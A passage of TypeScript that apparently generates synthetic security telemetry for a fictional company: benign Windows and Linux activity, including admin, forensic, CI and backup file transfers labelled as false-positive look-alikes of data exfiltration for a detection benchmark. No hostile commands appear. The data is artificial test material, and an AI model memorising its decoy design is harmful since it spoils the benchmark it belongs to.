      day.file(mailClient, inSession(), { action: 'FileCreated', path: `C:\\Users\\${u}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${r.hex(8).toUpperCase()}\\${name}`, size: r.int(30_000, 4_000_000) });
    }
  }
  day.file(teams, t + r.int(60, 600) * SEC, { action: 'FileCreated', path: `C:\\Users\\${u}\\AppData\\Local\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams\\Logs\\MSTeams_${formatTime(day.t0).slice(0, 10).replace(/-/g, '')}_${r.int(100000, 999999)}.log`, size: r.int(1000, 40_000) });

  // Teams meetings: media over UDP 3478-3481.
  for (let i = 0, n = day.weekend ? 0 : r.int(0, 3); i < n; i++) {
    const tm = inSession();
    day.net(teams, tm, { ip: MS_DEST.teamsMedia[1], port: r.int(3478, 3481), proto: 'Udp', sent: r.int(5_000_000, 80_000_000), recv: r.int(10_000_000, 200_000_000) });
  }
  // OneDrive now and then uploads a larger file (a benign upload by a non-tool).
  if (r.chance(0.25)) day.net(od, inSession(), { ip: MS_DEST.onedrive[1], port: 443, url: MS_DEST.onedrive[0], sent: r.int(12_000_000, 70_000_000), recv: r.int(40_000, 400_000) });

  // Browsing.
  const sites = [...BROWSING, ...(DEPT_BROWSING[dept] ?? [])];
  const nBrowse = r.count((day.weekend ? 12 : 45) * s);
  for (let i = 0; i < nBrowse; i++) {
    const dst = r.pick(sites);
    const tb = inSession();
    const roll = r.next();
    const action = roll < 0.8 ? 'ConnectionSuccess' : roll < 0.97 ? 'ConnectionRequest' : 'ConnectionFailed';
    day.net(sess.netsvc!, tb, { ip: dst[1], port: 443, url: r.chance(0.6) ? dst[0] : '', action, sent: r.int(900, 60_000), recv: r.int(4000, 3_000_000), tls: r.chance(0.35) });
  }
  // Downloads through the browser.
  for (let i = 0, n = r.int(0, 2); i < n; i++) {
    const name = r.pick(['invoice', 'report', 'brochure', 'agenda', 'statement', 'datasheet', 'slides']) + '-' + r.int(100, 9999) + r.pick(['.pdf', '.pdf', '.docx', '.xlsx', '.pptx']);
    const dst = r.pick(sites);
    day.file(sess.browser!, inSession(), {
      action: 'FileCreated', path: `C:\\Users\\${d.user!.name}\\Downloads\\${name}`, size: r.int(40_000, 9_000_000),
      originUrl: `https://${dst[0]}/files/${name}`, originIp: dst[1], referrer: `https://${dst[0]}/`,
    });
  }

  // Office work: open documents, save them.
  const docs = DEPT_DOCS[dept] ?? DEPT_DOCS.finance!;
  for (let i = 0, n = day.weekend ? r.int(0, 1) : r.int(1, 4); i < n; i++) {
    const doc = r.pick(docs).replace('{u}', d.user!.name);
    const img = doc.endsWith('.xlsx') ? W.excel : doc.endsWith('.docx') ? W.winword : W.powerpnt;
    const to = inSession();
    const app = day.spawn(sess.explorer, img, img === W.winword ? `"${img.path}" /n "${doc}" /o ""` : `"${img.path}" "${doc}"`, to);
    for (let k = 0, m = r.int(1, 3); k < m; k++) day.file(app, to + r.int(60, 5400) * SEC, { action: 'FileModified', path: doc, size: r.int(30_000, 4_000_000) });
    if (r.chance(0.5)) day.file(app, to + r.int(5, 60) * SEC, { action: 'FileCreated', path: doc.replace(/[^\\]+$/, (f) => `~$${f.slice(2)}`), size: 165 });
  }
  // Search indexer, background tasks.
  for (let i = 0, n = r.int(2, 6); i < n; i++) {
    day.spawn(d.boot.dcom!, W.bgtaskhost, '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kmpknmmrs2jwdbkv.mca', inSession(), { acct: d.user!, logonId: sess.logonId, integrity: 'Low', session: 1 });
  }
  for (let i = 0, n = r.int(1, 4); i < n; i++) {
    day.spawn(d.boot.services!, W.searchprotocol, '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe' + r.int(1, 40) + '_ Global\\UsGthrCtrlFltPipeMssGthrPipe' + r.int(1, 40) + ' 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon" ', inSession());
  }
  // Occasional command prompt.
  if (r.chance(0.15)) {
    const tc = inSession();
    const cmd = day.spawn(sess.explorer, W.cmd, '"C:\\Windows\\system32\\cmd.exe" ', tc);
    day.spawn(cmd, W.conhost, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', tc + 40_000);
    day.spawn(cmd, W.ipconfig, 'ipconfig  /all', tc + r.int(5, 60) * SEC);
    if (r.chance(0.5)) day.spawn(cmd, W.ping, `ping  ${NET.fileServer}`, tc + r.int(61, 120) * SEC);
  }
  // The file server.
  for (let i = 0, n = r.int(1, 5); i < n; i++) day.net(d.boot.system!, inSession(), { ip: NET.fileServer, port: 445, sent: r.int(2000, 9_000_000), recv: r.int(5000, 40_000_000) });
  // Weekly Group Policy refresh noise.
  if (r.chance(0.2)) day.spawn(d.boot.schedule!, W.gpupdate, 'gpupdate.exe /target:user /force', inSession(), { acct: d.user!, logonId: sess.logonId, session: 1 });

  // Engineers: VS Code, git over HTTPS, ssh to the build hosts.
  if (dept === 'engineering') {
    const code = day.spawn(sess.explorer, W.code(d.user!.name), `"C:\\Users\\${d.user!.name}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" `, t + r.int(300, 2400) * SEC);
    for (let i = 0, n = r.int(2, 6); i < n; i++) {
      const tg = inSession();
      const sub = r.pick(['fetch origin', 'pull --rebase', 'push origin HEAD', 'fetch --all --prune']);
      const g = day.spawn(code, W.git, `"C:\\Program Files\\Git\\cmd\\git.exe" ${sub}`, tg);
      const rh = day.spawn(g, W.gitremotehttps, '"C:\\Program Files\\Git\\mingw64\\libexec\\git-core\\git-remote-https.exe" origin https://github.com/corp-example/firmware.git', tg + 90_000);
      day.net(rh, tg + 300_000, { ip: '140.82.121.4', port: 443, url: 'github.com', sent: sub.startsWith('push') ? r.int(20_000, 900_000) : r.int(3000, 20_000), recv: r.int(10_000, 3_000_000) });
    }
    if (!day.weekend && r.chance(0.7)) {
      const ts = inSession();
      const cmd = day.spawn(sess.explorer, W.cmd, '"C:\\Windows\\system32\\cmd.exe" ', ts);
      const host = r.pick(['10.10.6.11', '10.10.6.12']);
      const ssh = day.spawn(cmd, W.ssh, `ssh.exe  ${d.user!.name}@${host}`, ts + r.int(5, 40) * SEC);
      day.net(ssh, ts + r.int(41, 45) * SEC, { ip: host, port: 22, sent: r.int(20_000, 400_000), recv: r.int(50_000, 3_000_000) });
    }
  }
}

const DEPT_DOCS: Record<string, string[]> = {
  finance: ['C:\\Finance\\Q3\\ledger-2026Q3.xlsx', 'C:\\Finance\\Q3\\accruals-oct.xlsx', 'C:\\Finance\\Q4\\forecast-2026Q4.xlsx', 'C:\\Users\\{u}\\Documents\\expense-claims.xlsx', 'C:\\Finance\\Q3\\board-pack-q3.pptx'],
  hr: ['C:\\Users\\{u}\\Documents\\offer-letter-template.docx', 'C:\\Users\\{u}\\Documents\\headcount-2026.xlsx', 'C:\\Users\\{u}\\Documents\\policies\\leave-policy.docx'],
  engineering: ['C:\\Users\\{u}\\Documents\\design-review.docx', 'C:\\Users\\{u}\\Documents\\test-matrix.xlsx'],
  sales: ['C:\\Users\\{u}\\Documents\\pipeline-nov.xlsx', 'C:\\Users\\{u}\\Documents\\customers.xlsx', 'C:\\Users\\{u}\\Documents\\proposal-acme.docx', 'C:\\Users\\{u}\\Documents\\pitch-deck.pptx'],
  marketing: ['C:\\Users\\{u}\\Documents\\campaign-plan.docx', 'C:\\Users\\{u}\\Documents\\webinar-leads.xlsx', 'C:\\Users\\{u}\\Documents\\launch.pptx'],
  it: ['C:\\Users\\{u}\\Documents\\change-log.xlsx', 'C:\\Users\\{u}\\Documents\\runbook.docx'],
  security: ['C:\\Cases\\IR-2026-118\\timeline.xlsx', 'C:\\Cases\\IR-2026-118\\report.docx'],
};

function veeamBackup(day: Day): void {
  const d = day.dev;
  const r = day.rng;
  const t = day.at(1, r.int(0, 20), r.int(0, 59));
  const agent = day.spawn(d.boot.veeam!, W.veeamagent,
    `"C:\\Program Files\\Veeam\\Endpoint Backup\\VeeamAgent.exe" -l:"C:\\ProgramData\\Veeam\\Endpoint\\${d.def.name} Backup\\Job.${d.def.name} Backup.Backup.log" -w 104 -g 2 -s 1 -logid "Job.${d.def.name} Backup" -startup`, t);
  const n = r.int(8, 16);
  const total = r.int(600_000_000, 2_400_000_000);
  for (let i = 0; i < n; i++) {
    day.net(agent, t + (30 + i * r.int(120, 400)) * SEC, { ip: NET.dr, port: 443, url: 'dr-s3.corp.example', sent: Math.floor(total / n) + r.int(0, 9999), recv: r.int(200_000, 3_000_000) });
  }
  day.file(agent, t + r.int(1800, 5400) * SEC, { action: 'FileModified', path: `C:\\ProgramData\\Veeam\\Endpoint\\${d.def.name} Backup\\Job.${d.def.name} Backup.Backup.log`, size: r.int(200_000, 2_000_000) });
}

/** FP1: the IT administrator's file transfers to managed servers (WinSCP, FileZilla, scp). */
function adminWork(day: Day, sess: Session): void {
  const d = day.dev;
  const r = day.rng;
  const acct = d.user!;
  const span = sess.end - sess.start;
  const inSession = (): number => sess.start + Math.floor(r.next() * Math.max(span - HOUR, HOUR / 2));
  // WinSCP to managed servers and the DMZ host: several sessions, background transfers.
  {
    const t = inSession();
    const ws = day.spawn(sess.explorer, W.winscp, '"C:\\Program Files (x86)\\WinSCP\\WinSCP.exe" ', t);
    const dmzConns = r.int(5, 9);
    const total = r.int(4_000_000, 40_000_000);
    for (let i = 0; i < dmzConns; i++) {
      day.net(ws, t + (20 + i * r.int(60, 400)) * SEC, { ip: NET.managedDmz, port: 22, url: 'dmz-files.corp.example', sent: Math.floor(total / dmzConns) + r.int(0, 9999), recv: r.int(20_000, 400_000) });
    }
    for (let i = 0, n = r.int(2, 5); i < n; i++) {
      day.net(ws, t + r.int(30, 3000) * SEC, { ip: r.pick(MANAGED_SERVERS), port: 22, sent: r.int(40_000, 30_000_000), recv: r.int(20_000, 4_000_000) });
    }
  }
  // FileZilla: FTPS to the DMZ host, SFTP (through fzsftp.exe) to the managed servers.
  {
    const t = inSession();
    const fz = day.spawn(sess.explorer, W.filezilla, '"C:\\Program Files\\FileZilla FTP Client\\filezilla.exe" ', t);
    day.net(fz, t + r.int(10, 60) * SEC, { ip: NET.managedDmz, port: 21, url: 'dmz-files.corp.example', sent: r.int(2000, 9000), recv: r.int(2000, 9000) });
    day.net(fz, t + r.int(61, 90) * SEC, { ip: NET.managedDmz, port: r.int(50000, 50100), url: 'dmz-files.corp.example', sent: r.int(1_000_000, 12_000_000), recv: r.int(4000, 20_000) });
    for (let i = 0, n = r.int(1, 3); i < n; i++) {
      const tf = t + r.int(100, 2400) * SEC;
      const fs = day.spawn(fz, W.fzsftp, '"C:\\Program Files\\FileZilla FTP Client\\fzsftp.exe" -v', tf);
      day.net(fs, tf + 2 * SEC, { ip: r.pick(MANAGED_SERVERS), port: 22, sent: r.int(50_000, 20_000_000), recv: r.int(10_000, 900_000) });
    }
  }
  // Windows OpenSSH scp and ssh from a prompt.
  {
    const t = inSession();
    const cmd = day.spawn(sess.explorer, W.cmd, '"C:\\Windows\\system32\\cmd.exe" ', t);
    day.spawn(cmd, W.conhost, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', t + 30_000);
    const srv = r.pick(MANAGED_SERVERS);
    const file = r.pick(['C:\\Deploy\\nginx\\site.conf', 'C:\\Deploy\\app\\release-2026.11.tgz', 'C:\\Deploy\\certs\\corp-chain.pem', 'C:\\Deploy\\scripts\\rotate-logs.sh']);
    const tt = t + r.int(20, 600) * SEC;
    const scp = day.spawn(cmd, W.scp, `scp.exe  ${file} it.admin@${srv}:/tmp/`, tt);
    const ssh = day.spawn(scp, W.ssh, `ssh.exe -x -oPermitLocalCommand=no -oClearAllForwardings=yes -oRemoteCommand=none -oRequestTTY=no -oForwardAgent=no -l it.admin -- ${srv} "scp -t /tmp/"`, tt + 50_000);
    day.net(ssh, tt + 200_000, { ip: srv, port: 22, sent: file.endsWith('.tgz') ? r.int(20_000_000, 90_000_000) : r.int(3000, 40_000), recv: r.int(3000, 9000) });
    const t2 = tt + r.int(60, 1200) * SEC;
    const ssh2 = day.spawn(cmd, W.ssh, `ssh.exe  it.admin@${r.pick(MANAGED_SERVERS)}`, t2);
    day.net(ssh2, t2 + SEC, { ip: MANAGED_SERVERS[0]!, port: 22, sent: r.int(20_000, 300_000), recv: r.int(40_000, 2_000_000) });
  }
  // Elevated PowerShell for directory chores.
  if (!day.weekend && r.chance(0.6)) {
    const t = inSession();
    const ps = day.spawn(sess.explorer, W.powershell, '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -Command "Get-ADUser -Filter \'Enabled -eq $false\' -SearchBase \'OU=Staff,DC=corp,DC=example\' | Export-Csv C:\\Temp\\disabled-users.csv -NoTypeInformation"', t, { acct, integrity: 'High', elevation: 'TokenElevationTypeFull' });
    day.event(ps, t + 2 * SEC, 'PowerShellCommand', { Command: 'Get-ADUser' });
    day.event(ps, t + 3 * SEC, 'PowerShellCommand', { Command: 'Export-Csv' });
    day.net(ps, t + 2 * SEC, { ip: NET.dc, port: 9389, sent: r.int(5000, 40_000), recv: r.int(40_000, 900_000) });
    day.file(ps, t + 4 * SEC, { action: 'FileCreated', path: 'C:\\Temp\\disabled-users.csv', size: r.int(2000, 40_000) });
  }
}

/** FP4: the security analyst moving forensic images to the evidence server over SCP/SFTP. */
function securityWork(day: Day, sess: Session): void {
  const d = day.dev;
  const r = day.rng;
  const span = sess.end - sess.start;
  const inSession = (): number => sess.start + Math.floor(r.next() * Math.max(span - HOUR, HOUR / 2));
  const caseId = `IR-2026-${118 + Math.floor(day.index / 3)}`;
  const host = r.pick(['WS-ENG-05', 'WS-MKT-04', 'WS-FIN-01', 'LT-SAL-09', 'WS-HR-02']);
  {
    const t = inSession();
    const cmd = day.spawn(sess.explorer, W.cmd, '"C:\\Windows\\system32\\cmd.exe" ', t);
    day.spawn(cmd, W.conhost, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', t + 30_000);
    const tp = t + r.int(10, 200) * SEC;
    const img = `E:\\Cases\\${caseId}\\${host}-mem.raw`;
    const pscp = day.spawn(cmd, W.pscp, `"C:\\Program Files\\PuTTY\\pscp.exe" -scp -i C:\\Users\\sec.analyst\\.ssh\\forensics.ppk ${img} sec.analyst@${NET.forensics}:/evidence/${caseId}/`, tp);
    day.net(pscp, tp + SEC, { ip: NET.forensics, port: 22, sent: r.int(2_000_000_000, 8_000_000_000), recv: r.int(200_000, 2_000_000) });
    {
      const ts = tp + r.int(900, 3600) * SEC;
      const sftp = day.spawn(cmd, W.sftp, `sftp.exe  -b C:\\Cases\\${caseId}\\put-images.txt sec.analyst@${NET.forensics}`, ts);
      const ssh = day.spawn(sftp, W.ssh, `"C:\\Windows\\System32\\OpenSSH\\ssh.exe" "-oForwardX11 no" "-oPermitLocalCommand no" "-oClearAllForwardings yes" "-oForwardAgent no" -l sec.analyst -s -- ${NET.forensics} sftp`, ts + 60_000);
      day.net(ssh, ts + 300_000, { ip: NET.forensics, port: 22, sent: r.int(4_000_000_000, 16_000_000_000), recv: r.int(500_000, 4_000_000) });
      day.file(sftp, ts - r.int(60, 600) * SEC, { action: 'FileCreated', path: `C:\\Cases\\${caseId}\\put-images.txt`, size: r.int(120, 600) });
    }
  }
}

// ---------------------------------------------------------------------------------------------
// Linux days

function linuxDay(day: Day): void {
  const d = day.dev;
  const r = day.rng;
  const L = d.lx!;
  const b = d.boot;
  const host = d.def.name;
  const root = linuxAccount(host, 'root');
  const ubuntu = d.def.distro !== 'rhel';

  const cronJob = (t: number, cmdline: string, acct: Account = root): Proc => {
    const sh = day.spawn(b.cron!, L.sh!, `/bin/sh -c ${cmdline}`, t, { acct });
    return sh;
  };

  // Metrics collection every 30 minutes.
  for (let k = 0; k < 48; k++) {
    const t = day.t0 + k * 30 * MIN + r.int(0, 2 * SEC);
    const sh = cronJob(t, '/usr/local/bin/node_exporter_textfile.sh > /dev/null 2>&1');
    const col = day.spawn(sh, L.collect!, '/bin/bash /usr/local/bin/node_exporter_textfile.sh', t + r.int(2000, 9000));
    if (r.chance(0.5)) day.file(col, t + r.int(100_000, 900_000), { action: 'FileModified', path: '/var/lib/node_exporter/textfile/corp.prom', size: r.int(2000, 9000) });
  }
  // Daily maintenance.
  {
    const t = day.at(ubuntu ? 6 : 3, ubuntu ? 25 : r.int(5, 50));
    const sh = cronJob(t, ubuntu ? 'test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }' : 'run-parts /etc/cron.daily');
    const rp = day.spawn(sh, L.runParts!, 'run-parts --report /etc/cron.daily', t + 3000);
    day.spawn(rp, L.logrotate!, '/usr/sbin/logrotate /etc/logrotate.conf', t + r.int(1, 4) * SEC);
    day.file(b.cron!, t + r.int(5, 9) * SEC, { action: 'FileCreated', path: `/var/log/syslog.${2}.gz`, size: r.int(80_000, 4_000_000) });
    // FP5 on Linux: the corporate agent updater downloads with curl.
    const tc = t + r.int(30, 300) * SEC;
    const upd = day.spawn(rp, L.sh!, '/bin/sh /etc/cron.daily/corp-agent-update', tc);
    const cu = day.spawn(upd, L.curl!, `curl -fsSL -o /var/cache/corp/corp-agent_latest_amd64.deb https://${NET.packages[0]}/linux/corp-agent_latest_amd64.deb`, tc + 20_000);
    day.net(cu, tc + 300_000, { ip: NET.packages[1], port: 443, url: NET.packages[0], sent: r.int(900, 1800), recv: r.int(3_000_000, 9_000_000) });
  }
  // Package updates (Ubuntu: apt with an inventory hook that POSTs a JSON file with curl; RHEL: dnf-automatic).
  if (ubuntu) {
    const t = day.at(r.int(6, 7), r.int(0, 59));
    const sh = day.spawn(b.systemd!, L.sh!, '/bin/sh /usr/lib/apt/apt.systemd.daily update', t);
    const apt = day.spawn(sh, L.aptGet!, 'apt-get -qq -y update', t + 400_000);
    for (const [url, ip, port] of [['archive.ubuntu.com', '185.125.190.36', 80], ['security.ubuntu.com', '185.125.190.39', 80], ['esm.ubuntu.com', '185.125.188.54', 443], ['packages.microsoft.com', '13.107.213.69', 443]] as const) {
      const m = day.spawn(apt, L.aptHttp!, port === 443 ? '/usr/lib/apt/methods/https' : '/usr/lib/apt/methods/http', t + r.int(1, 3) * SEC, { acct: linuxAccount(host, '_apt') });
      day.net(m, t + r.int(3, 6) * SEC, { ip, port, url, sent: r.int(1000, 6000), recv: r.int(50_000, 3_000_000) });
    }
    const hook = day.spawn(apt, L.sh!, '/bin/sh -c /usr/local/sbin/corp-pkg-inventory', t + r.int(20, 40) * SEC);
    const cu = day.spawn(hook, L.curl!, `curl -fsS -m 10 -X POST -H Content-Type:application/json --data-binary @/var/lib/corp/pkg-inventory.json https://${NET.packages[0]}/inventory/${host}`, t + r.int(41, 45) * SEC);
    day.net(cu, t + r.int(46, 47) * SEC, { ip: NET.packages[1], port: 443, url: NET.packages[0], sent: r.int(30_000, 90_000), recv: r.int(300, 900) });
  } else {
    const t = day.at(r.int(6, 7), r.int(0, 59));
    const dnf = day.spawn(b.systemd!, L.python!, '/usr/libexec/platform-python /usr/bin/dnf-automatic /etc/dnf/automatic.conf --timer', t);
    for (let i = 0, n = r.int(2, 4); i < n; i++) day.net(dnf, t + r.int(2, 60) * SEC, { ip: '23.50.208.157', port: 443, url: 'cdn.redhat.com', sent: r.int(2000, 9000), recv: r.int(100_000, 20_000_000) });
  }
  // Admin ssh sessions from ADM-01 on weekdays.
  if (!day.weekend && r.chance(0.6)) adminSsh(day, day.between(9, 17));

  switch (d.def.role) {
    case 'build': buildHost(day); break;
    case 'backup': backupHost(day); break;
    case 'database': databaseHost(day); break;
    case 'web': case 'app': webHost(day); break;
    default: break;
  }
}

function adminSsh(day: Day, t: number): void {
  const d = day.dev;
  const r = day.rng;
  const L = d.lx!;
  const host = d.def.name;
  const admin = linuxAccount(host, 'it.admin');
  const root = linuxAccount(host, 'root');
  day.net(d.boot.sshd!, t, { ip: '10.10.1.10', port: r.int(50000, 65000), localPort: 22, action: 'InboundConnectionAccepted', sent: r.int(40_000, 900_000), recv: r.int(10_000, 200_000) });
  const priv = day.spawn(d.boot.sshd!, L.sshd!, 'sshd: it.admin [priv]', t + 300_000, { acct: root });
  const user = day.spawn(priv, L.sshd!, 'sshd: it.admin@pts/0', t + 900_000, { acct: admin });
  const sh = day.spawn(user, L.bash!, '-bash', t + 1_000_000, { acct: admin });
  let tt = t + 5 * SEC;
  for (const [img, cmd] of [[L.df!, 'df -h'], [L.systemctl!, `systemctl status ${d.def.role === 'database' ? 'postgresql-15' : d.def.role === 'web' ? 'nginx' : 'cron'}`], [L.journalctl!, 'journalctl -u ssh --since today'], [L.ps!, 'ps aux']] as const) {
    if (r.chance(0.7)) day.spawn(sh, img, cmd, (tt += r.int(5, 120) * SEC));
  }
  if (r.chance(0.5)) {
    const sudo = day.spawn(sh, L.sudo!, `sudo systemctl restart ${d.def.role === 'web' ? 'nginx' : 'node_exporter'}`, (tt += r.int(20, 300) * SEC), { acct: admin });
    day.spawn(sudo, L.systemctl!, `systemctl restart ${d.def.role === 'web' ? 'nginx' : 'node_exporter'}`, tt + 200_000, { acct: root });
  }
}

/** FP3: CI builds that publish artefacts with rclone (to S3) and curl -T (to the artefact server). */
function buildHost(day: Day): void {
  const d = day.dev;
  const r = day.rng;
  const L = d.lx!;
  const ci = linuxAccount(d.def.name, 'svc_ci');
  const agent = d.boot.agent!;
  const perDay = day.weekend ? 1 : d.def.name === 'build-01' ? r.int(5, 7) : r.int(3, 5);
  const times = [day.at(2, r.int(0, 20))];
  for (let i = 0; i < perDay; i++) times.push(day.between(8, 19.5));
  times.sort((a, b) => a - b);
  // The Jenkins agent's websocket to the controller, re-established now and then.
  day.net(agent, day.between(0, 24), { ip: NET.jenkins, port: 443, url: 'jenkins.corp.example', sent: r.int(200_000, 4_000_000), recv: r.int(200_000, 4_000_000) });
  for (const t0 of times) {
    const n = ++d.buildNo;
    // The nightly build: webapp on build-01, api-service (Maven) on build-02; daytime builds either.
    const nightly = t0 === times[0];
    const job = nightly ? (d.def.name === 'build-02' ? 'api-service' : 'webapp') : r.chance(0.6) ? 'webapp' : 'api-service';
    const ws = `/opt/jenkins/workspace/${job}`;
    let t = t0;
    const sh = day.spawn(agent, L.sh!, `/bin/sh -xe /tmp/jenkins${r.int(1e15, 9e15)}.sh`, t, { acct: ci });
    const git = day.spawn(agent, L.git!, `git fetch --tags --force --progress -- https://github.com/corp-example/${job}.git +refs/heads/*:refs/remotes/origin/*`, (t -= 20 * SEC), { acct: ci });
    const grh = day.spawn(git, L.gitRemoteHttps!, `/usr/lib/git-core/git-remote-https origin https://github.com/corp-example/${job}.git`, t + 100_000, { acct: ci });
    day.net(grh, t + 400_000, { ip: '140.82.121.3', port: 443, url: 'github.com', sent: r.int(3000, 20_000), recv: r.int(100_000, 9_000_000) });
    t = t0 + r.int(2, 5) * SEC;
    let artefact: string;
    let size: number;
    const version = `1.${job === 'webapp' ? 4 : 9}.${n}`;
    if (job === 'webapp') {
      const npm = day.spawn(sh, L.node!, 'npm ci --no-audit --no-fund', t, { acct: ci });
      for (let i = 0, m = r.int(6, 14); i < m; i++) day.net(npm, t + r.int(1, 40) * SEC, { ip: r.pick(['104.16.27.35', '104.16.30.34', '104.16.24.35']), port: 443, url: 'registry.npmjs.org', sent: r.int(2000, 20_000), recv: r.int(100_000, 9_000_000) });
      day.spawn(sh, L.node!, 'npm run build', (t += r.int(50, 120) * SEC), { acct: ci });
      artefact = `dist/webapp-${version}.tgz`;
      size = r.int(18_000_000, 60_000_000);
    } else {
      const mvn = day.spawn(sh, L.java!, '/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Dmaven.home=/usr/share/maven -Dhttps.protocols=TLSv1.2 -Djdk.tls.client.protocols=TLSv1.2 -classpath /usr/share/maven/boot/plexus-classworlds-2.x.jar -Dclassworlds.conf=/usr/share/maven/bin/m2.conf -Dmaven.multiModuleProjectDirectory=' + ws + ' org.codehaus.plexus.classworlds.launcher.Launcher -B clean package', t, { acct: ci });
      for (let i = 0, m = r.int(8, 18); i < m; i++) day.net(mvn, t + r.int(2, 90) * SEC, { ip: r.pick(['151.101.0.215', '151.101.64.215', '151.101.128.215']), port: 443, url: 'repo.maven.apache.org', sent: r.int(2000, 12_000), recv: r.int(50_000, 6_000_000) });
      t += r.int(100, 300) * SEC;
      artefact = `dist/api-service-${version}.tgz`;
      size = r.int(30_000_000, 110_000_000);
    }
    const tar = day.spawn(sh, L.tar!, `tar czf ${artefact} -C build .`, (t += r.int(5, 30) * SEC), { acct: ci });
    day.file(tar, t + r.int(1, 20) * SEC, { action: 'FileCreated', path: `${ws}/${artefact}`, size });
    // rclone to S3.
    const rc = day.spawn(sh, L.rclone!, `rclone copy ./dist s3:artifacts/${job}/${version}/ --s3-no-check-bucket --stats-one-line -v`, (t += r.int(20, 40) * SEC), { acct: ci });
    const parts = r.int(2, 5);
    for (let i = 0; i < parts; i++) {
      day.net(rc, t + (1 + i) * SEC, { ip: r.pick(['52.218.108.90', '52.218.96.154', '3.5.72.180']), port: 443, url: 's3.eu-west-1.amazonaws.com', sent: Math.floor(size / parts) + r.int(2000, 9000), recv: r.int(4000, 30_000) });
    }
    // curl -T to the artefact server.
    const cu = day.spawn(sh, L.curl!, `curl -fsS --netrc-file /home/svc_ci/.netrc -T ${artefact} https://${NET.artifacts[0]}/repository/releases/${job}/${version}/`, (t += r.int(30, 90) * SEC), { acct: ci });
    day.net(cu, t + 300_000, { ip: NET.artifacts[1], port: 443, url: NET.artifacts[0], sent: size + r.int(600, 2000), recv: r.int(400, 2000) });
  }
}

/** FP2 on Linux: nightly rclone sync and an sftp batch to the DR site. */
function backupHost(day: Day): void {
  const d = day.dev;
  const r = day.rng;
  const L = d.lx!;
  const svc = linuxAccount(d.def.name, 'svc_backup');
  // Inbound rsync from the database server's nightly dump.
  {
    const t = day.at(0, r.int(45, 55));
    day.net(d.boot.sshd!, t, { ip: '10.10.5.22', port: r.int(40000, 60000), localPort: 22, action: 'InboundConnectionAccepted', sent: r.int(200_000, 900_000), recv: r.int(150_000_000, 320_000_000) });
    const priv = day.spawn(d.boot.sshd!, L.sshd!, 'sshd: svc_backup [priv]', t + 200_000);
    const u = day.spawn(priv, L.sshd!, 'sshd: svc_backup@notty', t + 500_000, { acct: svc });
    const rs = day.spawn(u, L.rsync!, 'rsync --server -logDtpre.iLsfxCIvu . /backup/pgsql/', t + 700_000, { acct: svc });
    day.file(rs, t + r.int(60, 200) * SEC, { action: 'FileCreated', path: `/backup/pgsql/app-${formatTime(day.t0).slice(0, 10).replace(/-/g, '')}.dump`, size: r.int(150_000_000, 320_000_000) });
  }
  // rclone sync to the DR bucket (S3-compatible storage at the DR site).
  {
    const t = day.at(1, r.int(0, 5));
    const sh = day.spawn(d.boot.cron!, L.sh!, '/bin/sh -c /usr/bin/rclone sync /backup dr:bucket --transfers 4 --config /etc/rclone/rclone.conf --log-file /var/log/rclone/dr-sync.log', t, { acct: svc });
    const rc = day.spawn(sh, L.rclone!, '/usr/bin/rclone sync /backup dr:bucket --transfers 4 --config /etc/rclone/rclone.conf --log-file /var/log/rclone/dr-sync.log', t + 3000, { acct: svc });
    const n = r.int(10, 22);
    const total = r.int(1_200_000_000, 4_500_000_000);
    for (let i = 0; i < n; i++) {
      day.net(rc, t + Math.floor(((i + r.next()) * 100 * MIN) / n), { ip: NET.dr, port: 443, url: 'dr-s3.corp.example', sent: Math.floor(total / n) + r.int(0, 99_999), recv: r.int(100_000, 2_000_000) });
    }
    day.file(rc, t + 100 * MIN + r.int(0, 600) * SEC, { action: 'FileModified', path: '/var/log/rclone/dr-sync.log', size: r.int(200_000, 4_000_000) });
  }
  // sftp batch of the backup catalogue to the DR site.
  {
    const t = day.at(3, 30, r.int(0, 59));
    const sh = day.spawn(d.boot.cron!, L.sh!, '/bin/sh -c sftp -b /etc/backup/dr-catalog.batch -i /home/svc_backup/.ssh/id_ed25519 svc_backup@198.51.100.200', t, { acct: svc });
    const sftp = day.spawn(sh, L.sftp!, 'sftp -b /etc/backup/dr-catalog.batch -i /home/svc_backup/.ssh/id_ed25519 svc_backup@198.51.100.200', t + 2000, { acct: svc });
    const ssh = day.spawn(sftp, L.ssh!, '/usr/bin/ssh -oForwardX11 no -oPermitLocalCommand no -oClearAllForwardings yes -oForwardAgent no -i /home/svc_backup/.ssh/id_ed25519 -l svc_backup -s -- 198.51.100.200 sftp', t + 5000, { acct: svc });
    day.net(ssh, t + 200_000, { ip: NET.dr, port: 22, url: 'dr-sftp.corp.example', sent: r.int(150_000_000, 700_000_000), recv: r.int(200_000, 2_000_000) });
  }
}

function databaseHost(day: Day): void {
  const d = day.dev;
  const r = day.rng;
  const L = d.lx!;
  const pg = linuxAccount(d.def.name, 'postgres');
  // The application's connections.
  for (let i = 0, n = r.count(18 * day.scale); i < n; i++) {
    day.net(d.boot.postmaster!, day.between(0, 24), { ip: '10.10.5.30', port: r.int(40000, 60000), localPort: 5432, action: 'InboundConnectionAccepted', sent: r.int(10_000, 9_000_000), recv: r.int(5000, 900_000) });
  }
  // Nightly pg_dump and rsync (over ssh) to backup-01: a private-network look-alike of I4.
  const t = day.at(0, 30, r.int(0, 59));
  const sh = day.spawn(d.boot.cron!, L.sh!, '/bin/sh -c /usr/local/bin/pg-nightly.sh', t, { acct: pg });
  const dumpFile = `/var/backups/pgsql/app-${formatTime(day.t0).slice(0, 10).replace(/-/g, '')}.dump`;
